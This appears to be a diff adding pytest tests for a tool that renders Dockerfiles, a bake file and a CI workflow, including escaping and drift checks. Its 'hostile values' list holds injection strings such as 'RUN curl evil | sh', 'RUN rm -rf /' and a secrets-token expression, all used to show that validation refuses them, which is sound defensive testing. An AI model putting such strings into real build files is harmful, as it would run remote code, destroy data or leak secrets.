@@ -1,0 +1,308 @@
+"""archlock render: templates -> Dockerfiles, bake file, workflow; validation and drift."""
+
+from __future__ import annotations
+
+import dataclasses
+import re
+from pathlib import Path
+
+import pytest
+
+from archlock import bakefile, render
+from archlock import dockerutil as du
+from archlock.errors import ConfigError
+from archlock.fsutil import GENERATED_MARK
+
+SHA = "ab" * 32
+
+
+def make_target(**changes: object) -> render.ImageTarget:
+    values: dict[str, object] = dict(
+        env="linux-arm64-cpu",
+        platforms=("linux/arm64",),
+        python="3.11",
+        accelerator="cpu",
+        base_image="debian:bookworm-slim",
+        lock_path="envs/locks/linux-arm64-cpu.txt",
+        lock_sha256=SHA,
+        install_project=True,
+        runner="ubuntu-24.04-arm",
+    )
+    values.update(changes)
+    return render.ImageTarget(**values)  # type: ignore[arg-type]
+
+
+def cuda_target() -> render.ImageTarget:
+    return make_target(
+        env="linux-amd64-cuda", platforms=("linux/amd64",), accelerator="cuda",
+        lock_path="envs/locks/linux-amd64-cuda.txt", runner="ubuntu-24.04",
+        base_image="debian:bookworm-slim@sha256:" + "0" * 64,
+    )
+
+
+@pytest.fixture
+def settings() -> render.RenderSettings:
+    return render.RenderSettings(image_name="demo")
+
+
+@pytest.fixture
+def files(tmp_path: Path, settings: render.RenderSettings) -> dict[str, str]:
+    out = render.render_files(tmp_path, settings, [cuda_target(), make_target()])
+    return {p.relative_to(tmp_path).as_posix(): text for p, text in out.items()}
+
+
+def stage(dockerfile: str, name: str) -> str:
+    match = re.search(rf"^FROM \S+ AS {name}\n(.*?)(?=^FROM |\Z)", dockerfile, re.S | re.M)
+    assert match, name
+    return match.group(1)
+
+
+# -- outputs ------------------------------------------------------------------------------------
+def test_renders_one_dockerfile_per_env_plus_bake_and_workflow(files: dict[str, str]) -> None:
+    assert sorted(files) == [
+        ".github/workflows/archlock-images.yml",
+        "docker/docker-bake.hcl",
+        "docker/linux-amd64-cuda.Dockerfile",
+        "docker/linux-amd64-cuda.Dockerfile.dockerignore",
+        "docker/linux-arm64-cpu.Dockerfile",
+        "docker/linux-arm64-cpu.Dockerfile.dockerignore",
+    ]
+    for name, text in files.items():
+        assert GENERATED_MARK in text.splitlines()[0], name
+        assert "Regenerate with: nox -s render" in text.splitlines()[1], name
+
+
+def test_rendering_is_deterministic(tmp_path: Path, settings: render.RenderSettings) -> None:
+    first = render.render_files(tmp_path, settings, [make_target()])
+    second = render.render_files(tmp_path, settings, [make_target()])
+    assert first == second
+
+
+def test_dockerfile_installs_the_lock_before_the_source(files: dict[str, str]) -> None:
+    text = files["docker/linux-arm64-cpu.Dockerfile"]
+    assert "# syntax" not in text  # a syntax line makes BuildKit fetch a frontend image
+    deps = stage(text, "deps")
+    assert "COPY envs/locks/linux-arm64-cpu.txt /tmp/archlock/requirements.txt" in deps
+    assert "COPY . " not in deps  # deps depend on the lock only
+    assert "--mount=type=cache,target=/root/.cache/uv" in deps
+    assert "uv pip sync --python /opt/venv/bin/python --require-hashes" in deps
+    assert "COPY --from=uv /uv /usr/local/bin/uv" in deps
+    runtime = stage(text, "runtime")
+    assert runtime.index("COPY --from=deps /opt/venv /opt/venv") < runtime.index("COPY . /app")
+    assert "COPY --from=uv" not in runtime  # no uv in the final image (only a bind mount)
+    assert re.search(r"^USER 10001:10001$", runtime, re.M)
+    assert "ENV VIRTUAL_ENV=/opt/venv" in runtime and "PATH=/opt/venv/bin:$PATH" in runtime
+
+
+def test_dockerfile_labels_and_settings(files: dict[str, str]) -> None:
+    text = files["docker/linux-arm64-cpu.Dockerfile"]
+    assert f'io.archlock.lock-sha256="{SHA}"' in text
+    assert 'io.archlock.env="linux-arm64-cpu"' in text
+    assert "org.opencontainers.image.source=$SOURCE_URL" in text
+    assert "org.opencontainers.image.revision=$REVISION" in text
+    assert f'RUN echo "{SHA}  /tmp/archlock/requirements.txt" | sha256sum --check' in text
+    assert "ARG BASE_IMAGE=debian:bookworm-slim\n" in text
+    assert f"ARG UV_IMAGE={render.DEFAULT_UV_IMAGE}\n" in text
+    assert "--mount=type=secret,id=ca-bundle" in text
+    # the revision labels come last: a new commit changes no layer above them
+    assert text.index("ARG REVISION") > text.index("USER 10001")
+
+
+def test_cuda_env_explains_why_no_cuda_base_and_pins_digest(files: dict[str, str]) -> None:
+    cuda = files["docker/linux-amd64-cuda.Dockerfile"]
+    assert "No CUDA base image" in cuda
+    assert "ARG BASE_IMAGE=debian:bookworm-slim@sha256:" + "0" * 64 in cuda
+    assert "No CUDA base image" not in files["docker/linux-arm64-cpu.Dockerfile"]
+
+
+def test_requirements_only_project_copies_source_without_installing(tmp_path: Path, settings: render.RenderSettings) -> None:
+    out = render.render_files(tmp_path, settings, [make_target(install_project=False)])
+    text = out[tmp_path / "docker/linux-arm64-cpu.Dockerfile"]
+    assert "COPY . /app" in text and "uv pip install" not in text
+
+
+def test_torch_index_reaches_uv_as_extra_index(tmp_path: Path, settings: render.RenderSettings) -> None:
+    target = make_target(extra_index_url="https://download.example/whl/cpu")
+    text = render.render_files(tmp_path, settings, [target])[tmp_path / "docker/linux-arm64-cpu.Dockerfile"]
+    assert 'UV_EXTRA_INDEX_URL="https://download.example/whl/cpu"' in text
+
+
+def test_bake_file_round_trips_through_the_reader(tmp_path: Path, files: dict[str, str]) -> None:
+    bake = bakefile.parse(files["docker/docker-bake.hcl"], Path("docker-bake.hcl"), env={})
+    assert bake.targets_of("default") == ["linux-amd64-cuda", "linux-arm64-cpu"]
+    assert bake.targets_of("multiarch") == ["linux-amd64-cuda", "linux-arm64-cpu"]
+    arm = bake.target("linux-arm64-cpu")
+    assert arm.platforms == ("linux/arm64",)
+    assert arm.tags == ("demo:dev-linux-arm64-cpu",)
+    assert arm.dockerfile == "docker/linux-arm64-cpu.Dockerfile"
+    assert arm.args["BASE_IMAGE"] == "debian:bookworm-slim"
+    assert arm.args["UV_IMAGE"] == render.DEFAULT_UV_IMAGE
+    release = bake.target("linux-arm64-cpu-release")
+    assert release.attest == ("type=sbom", "type=provenance,mode=max")
+    assert release.output == ("type=registry",)
+    assert release.cache_to and release.cache_from
+    assert bake.variable("MANIFEST") == "demo:dev"
+
+
+def test_workflow_has_native_runners_merge_qemu_mac_and_scan(files: dict[str, str]) -> None:
+    flow = files[".github/workflows/archlock-images.yml"]
+    assert 'runner: "ubuntu-24.04-arm"' in flow and 'runner: "ubuntu-24.04"' in flow
+    assert "push-by-digest=true" in flow
+    assert "docker buildx imagetools create" in flow
+    assert "docker/setup-qemu-action" in flow and "qemu:" in flow
+    assert "runs-on: macos-14" in flow
+    assert "nox -s setup-mac" in flow and "nox -s verify" in flow
+    assert "nox -s scan" in flow
+    assert "nox -s render -- --check" in flow
+
+
+def test_builder_nodes_render_a_buildx_append_script(tmp_path: Path) -> None:
+    settings = render.RenderSettings(
+        image_name="demo", builder_nodes={"linux/amd64": "ssh://ci@x86-box", "linux/arm64": "tcp://graviton:1234"}
+    )
+    out = render.render_files(tmp_path, settings, [make_target()])
+    script = out[tmp_path / "docker/buildx-nodes.sh"]
+    assert script.startswith("#!/usr/bin/env bash\n")
+    assert 'docker buildx create --name archlock --node archlock-linux-amd64 \\\n  --platform linux/amd64 "ssh://ci@x86-box"' in script
+    assert "--append --node archlock-linux-arm64" in script
+
+
+def test_multiarch_takes_one_non_opt_in_env_per_platform() -> None:
+    cpu = make_target(env="linux-amd64-cpu", platforms=("linux/amd64",), opt_in=True, runner="ubuntu-24.04")
+    chosen = render.multiarch([cpu, cuda_target(), make_target()])
+    assert [t.env for t in chosen] == ["linux-amd64-cuda", "linux-arm64-cpu"]
+
+
+# -- hostile values -----------------------------------------------------------------------------
+HOSTILE = [
+    'x"\nRUN curl evil | sh',
+    "x\nRUN rm -rf /",
+    "$(touch /pwned)",
+    "`id`",
+    "a b",
+    "x'; echo pwned; '",
+    "${{ secrets.TOKEN }}",
+    "x\r\nFROM evil",
+    "x\u2028RUN evil",
+    "x\\",
+]
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+@pytest.mark.parametrize("field_name", ["env", "python", "base_image", "lock_path", "lock_sha256", "runner", "accelerator"])
+def test_hostile_target_values_are_refused(field_name: str, value: str) -> None:
+    with pytest.raises(ConfigError) as info:
+        make_target(**{field_name: value})
+    assert "\n" not in info.value.line()  # one line, the value shown as a repr
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_hostile_platform_and_index_are_refused(value: str) -> None:
+    with pytest.raises(ConfigError):
+        make_target(platforms=(value,))
+    with pytest.raises(ConfigError):
+        make_target(extra_index_url="https://x.example/" + value)
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+@pytest.mark.parametrize("key", ["image_name", "uv_image", "registry", "workflow_dir"])
+def test_hostile_settings_are_refused(key: str, value: str) -> None:
+    values = {"image_name": "demo", key: value}
+    with pytest.raises(ConfigError):
+        render.RenderSettings(**values)  # type: ignore[arg-type]
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_hostile_runner_and_builder_node_settings_are_refused(value: str) -> None:
+    with pytest.raises(ConfigError):
+        render.RenderSettings(image_name="demo", runners={"linux/arm64": value})
+    with pytest.raises(ConfigError):
+        render.RenderSettings(image_name="demo", builder_nodes={"linux/arm64": value})
+    with pytest.raises(ConfigError):
+        render.RenderSettings(image_name="demo", builder_nodes={value: "ssh://host"})
+
+
+@pytest.mark.parametrize("field_name", ["env", "base_image", "lock_path", "python"])
+def test_filters_refuse_what_validation_would_have_caught(tmp_path: Path, settings: render.RenderSettings, field_name: str) -> None:
+    """Defence in depth: even a target that skipped validation cannot inject an instruction."""
+    target = make_target()
+    object.__setattr__(target, field_name, 'ok"\nRUN echo injected')
+    with pytest.raises(ConfigError):
+        render.render_files(tmp_path, settings, [target])
+
+
+def test_dockerfile_str_escapes_shell_and_dockerfile_metacharacters() -> None:
+    assert du.dockerfile_str('a"b') == '"a\\"b"'
+    assert du.dockerfile_str("$(id)") == '"\\$(id)"'
+    assert du.dockerfile_str("`id`") == '"\\`id\\`"'
+    assert du.dockerfile_str("a\\b") == '"a\\\\b"'
+    for bad in ("a\nb", "a\rb", "a\x00b", "a\u2029b"):
+        with pytest.raises(ConfigError):
+            du.dockerfile_str(bad)
+
+
+def test_dockerfile_word_refuses_anything_but_a_plain_word() -> None:
+    assert du.dockerfile_word("ghcr.io/a/b:1@sha256:" + "0" * 64)
+    for bad in ("a b", "a\"", "$X", "a\nb", "a;b", ""):
+        with pytest.raises(ConfigError):
+            du.dockerfile_word(bad)
+
+
+def test_hcl_filters_escape_interpolation() -> None:
+    assert du.hcl_str('${X} %{if} "q" \\') == '"$${X} %%{if} \\"q\\" \\\\"'
+    assert du.hcl_template("${REGISTRY}img:${TAG}-a${b") == '"${REGISTRY}img:${TAG}-a$${b"'
+    parsed = bakefile.parse(
+        'variable "X" {\n default = "v"\n}\ntarget "t" {\n tags = [' + du.hcl_str("${X}\"$(id)") + "]\n}\n",
+        Path("f.hcl"), env={},
+    )
+    assert parsed.target("t").tags == ('${X}"$(id)',)
+    with pytest.raises(ConfigError):
+        du.hcl_str("a\nb")
+
+
+def test_yaml_str_is_json_and_refuses_actions_expressions() -> None:
+    assert du.yaml_str('a"b: c') == '"a\\"b: c"'
+    with pytest.raises(ConfigError):
+        du.yaml_str("${{ github.token }}")
+    with pytest.raises(ConfigError):
+        du.yaml_str("a\nb")
+
+
+# -- settings and drift -------------------------------------------------------------------------
+@dataclasses.dataclass
+class FakeProject:
+    root: Path
+    settings: dict[str, object]
+    name: str = "My Project"
+
+
+def test_settings_default_image_name_from_project(tmp_path: Path) -> None:
+    settings = render.load_settings(FakeProject(tmp_path, {}))
+    assert settings.image_name == "my-project"
+    assert settings.runners["linux/arm64"] == "ubuntu-24.04-arm"
+
+
+def test_unknown_setting_suggests_the_right_key(tmp_path: Path) -> None:
+    with pytest.raises(ConfigError, match="did you mean 'uv-image'"):
+        render.load_settings(FakeProject(tmp_path, {"render": {"uv_image": "x"}}))
+
+
+def test_check_names_stale_and_leftover_files(tmp_path: Path, settings: render.RenderSettings) -> None:
+    files = render.render_files(tmp_path, settings, [make_target(), cuda_target()])
+    render.write(tmp_path, files)
+    assert render.stale_files(tmp_path, files) == []
+    (tmp_path / "docker/linux-arm64-cpu.Dockerfile").write_text("edited\n")
+    fewer = render.render_files(tmp_path, settings, [make_target()])
+    stale = render.stale_files(tmp_path, fewer)
+    assert "docker/linux-arm64-cpu.Dockerfile" in stale
+    assert "docker/linux-amd64-cuda.Dockerfile (no longer rendered)" in stale
+    (tmp_path / "docker/notes.txt").write_text("mine, not generated\n")
+    render.write(tmp_path, fewer)
+    assert not (tmp_path / "docker/linux-amd64-cuda.Dockerfile").exists()
+    assert (tmp_path / "docker/notes.txt").exists()  # only generated files are removed
+    assert render.stale_files(tmp_path, fewer) == []
+
+
+def test_committed_rendering_of_this_repo_is_current(repo: Path) -> None:
+    files, _ = render.render_project(repo)
+    assert render.stale_files(repo, files) == []
